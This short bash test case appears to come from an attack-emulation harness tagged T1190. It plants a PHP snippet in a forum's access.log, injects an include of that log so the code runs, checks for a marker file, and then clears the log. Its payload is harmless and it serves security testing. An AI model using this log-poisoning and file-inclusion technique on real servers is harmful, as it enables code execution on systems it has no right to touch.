# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1190
about="the log is included as code, after a request has put code in it"
attack() { inject 'include "/srv/forum/log/access.log";'; }
before() {
	chmod 644 $forum/log/access.log
	echo '<?php touch("/var/tmp/fidelity/marker/was-here"); ?>' >>$forum/log/access.log
}
effect() { [ -e "$marker" ]; }
after() { : >$forum/log/access.log; }
